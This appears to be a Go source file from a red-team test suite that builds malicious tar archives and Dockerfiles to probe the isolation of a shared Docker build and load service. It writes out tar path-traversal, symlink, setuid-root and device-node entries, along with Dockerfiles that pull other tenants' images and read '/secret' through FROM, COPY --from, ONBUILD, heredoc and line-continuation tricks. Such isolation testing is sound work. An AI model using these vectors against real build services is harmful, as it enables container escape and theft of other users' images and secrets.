package redteam

import (
	"archive/tar"
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"strings"
)

// archives returns the tar files that vectors send, by placeholder.
func archives(f facts) (facts, error) {
	canary := f["{canary}"]
	written := file("../../../../../../../.."+canary+"/written", "x")
	link := tar.Header{Name: "d", Typeflag: tar.TypeSymlink, Linkname: canary, Mode: 0o777}
	setuid := file("su", "#!/bin/sh\n")
	setuid.head.Mode, setuid.head.Uid = 0o4755, 0
	device := tar.Header{Name: "kmsg", Typeflag: tar.TypeChar, Devmajor: 1, Devminor: 11, Mode: 0o666}
	recipe := ofSteps(f.fill("FROM {image}\nRUN [\"sh\",\"-c\",\"{payload}\"]\n"))
	recipes := func(lines ...string) []member {
		return []member{file("Dockerfile", f.fill(strings.Join(lines, "\n")+"\n"))}
	}
	look := `RUN cat /secret; cat /d/secret; true`
	load, err := savedImage(f["{shared}"])
	if err != nil {
		return nil, err
	}
	all := facts{"{kitrecipe}": recipe}
	if f["{unlisted}"] != "" {
		for name, lines := range map[string][]string{
			"{unlistedfrom}":    {"FROM {unlisted}/evil/x"},
			"{unlistedfromvar}": {"ARG X={unlisted}/evil/x", "FROM $X"},
			"{unlistedstage}":   {"FROM {unlisted}/evil/x AS busybox", "FROM busybox"},
			"{unlistedcopy}":    {"FROM {image}", "COPY --from={unlisted}/evil/x / /x"},
		} {
			if all[name], err = pack(recipes(lines...)); err != nil {
				return nil, err
			}
		}
	}
	for name, members := range map[string][]member{
		"{tarclimb}":  {written},
		"{tarlink}":   {{head: link}, file("d/written", "x")},
		"{tarsetuid}": {setuid},
		"{tardevice}": {{head: device}},
		"{tarbuild}":  {file("Dockerfile", recipe)},
		"{tarload}":   load,

		"{buildfrom}":      recipes("FROM {victimimage}", look),
		"{buildfromid}":    recipes("ARG X={victimimageid}", "FROM $X", look),
		"{buildcopy}":      recipes("FROM {image}", "COPY --from={victimimage} /secret /", look),
		"{buildcopyid}":    recipes("FROM {image}", "COPY --from={victimimageid} /secret /", look),
		"{buildadd}":       recipes("FROM {image}", "ADD http://{trap}/x /"),
		"{buildaddvar}":    recipes("FROM {image}", "ARG u=http://{trap}/x", "ADD $u /"),
		"{buildtrigger}":   recipes("FROM {image} AS a", "ONBUILD COPY --from={victimimage} /secret /", "FROM a", look),
		"{buildheredoc}":   recipes("FROM {image}", "RUN <<EOF", "FROM {victimimage}", "EOF", look),
		"{buildescape}":    recipes("FROM {image}", `RUN true \\`, "FROM {victimimage}", look),
		"{buildworkdir}":   recipes("FROM {image}", "ARG a=pr", "WORKDIR /${a}oc/self/fd/8", look),
		"{buildlink}":      {{head: link}, file("Dockerfile", recipe+"COPY d /d\n"+look+"\n")},
		"{buildclimb}":     {file("Dockerfile", recipe+"COPY ../../../../../.."+canary+"/secret /\n"+look+"\n")},
		"{buildinplace}":   {file("Dockerfile", recipe), file(".ds01-dockerfile", f.fill("FROM {victimimage}\n"+look+"\n"))},
		"{buildbehind}":    {{head: tar.Header{Name: "a", Typeflag: tar.TypeSymlink, Linkname: ".", Mode: 0o777}}, file("Dockerfile", recipe), file("a/.ds01-dockerfile", f.fill("FROM {victimimage}\n"+look+"\n"))},
		"{builddevice}":    {{head: device}, file("Dockerfile", recipe+"COPY kmsg /kmsg\n")},
		"{buildlowercase}": {file("Dockerfile", recipe), file("dockerfile", f.fill("FROM {victimimage}\n"+look+"\n"))},
	} {
		text, err := pack(members)
		if err != nil {
			return nil, err
		}
		all[name] = text
	}
	return all, nil
}

// ofSteps takes out of the payload what no request for a build can change: the
// engine gives steps CAP_MKNOD, and on cgroup v1 its own cgroup namespace. What
// counts is whether a device node that a step makes opens.
func ofSteps(recipe string) string {
	return strings.NewReplacer(
		" 25 27 34 ", " 25 34 ", " mnt cgroup user", " mnt user",
		`mknod /dev/made c 1 11 2>/dev/null && p \"a device node made\"`, `mknod /dev/made c 1 11 2>/dev/null`,
	).Replace(recipe)
}

type member struct {
	head tar.Header
	data string
}

func file(name, data string) member {
	return member{tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644}, data}
}

func pack(members []member) (string, error) {
	var out bytes.Buffer
	w := tar.NewWriter(&out)
	for _, m := range members {
		m.head.Size = int64(len(m.data))
		if err := w.WriteHeader(&m.head); err != nil {
			return "", fmt.Errorf("write an archive: %w", err)
		}
		if _, err := w.Write([]byte(m.data)); err != nil {
			return "", fmt.Errorf("write an archive: %w", err)
		}
	}
	if err := w.Close(); err != nil {
		return "", fmt.Errorf("write an archive: %w", err)
	}
	return out.String(), nil
}

// savedImage is an image as 'docker save' writes it, under a name.
func savedImage(name string) ([]member, error) {
	layer, err := pack([]member{file("loaded", "x")})
	if err != nil {
		return nil, err
	}
	config, err := json.Marshal(map[string]any{
		"architecture": "amd64", "os": "linux", "config": map[string]any{},
		"rootfs": map[string]any{"type": "layers", "diff_ids": []string{fmt.Sprintf("sha256:%x", sha256.Sum256([]byte(layer)))}},
	})
	if err != nil {
		return nil, fmt.Errorf("write an image: %w", err)
	}
	manifest, err := json.Marshal([]map[string]any{{"Config": "c.json", "RepoTags": []string{name}, "Layers": []string{"l/layer.tar"}}})
	if err != nil {
		return nil, fmt.Errorf("write an image: %w", err)
	}
	return []member{file("manifest.json", string(manifest)), file("c.json", string(config)), file("l/layer.tar", layer)}, nil
}
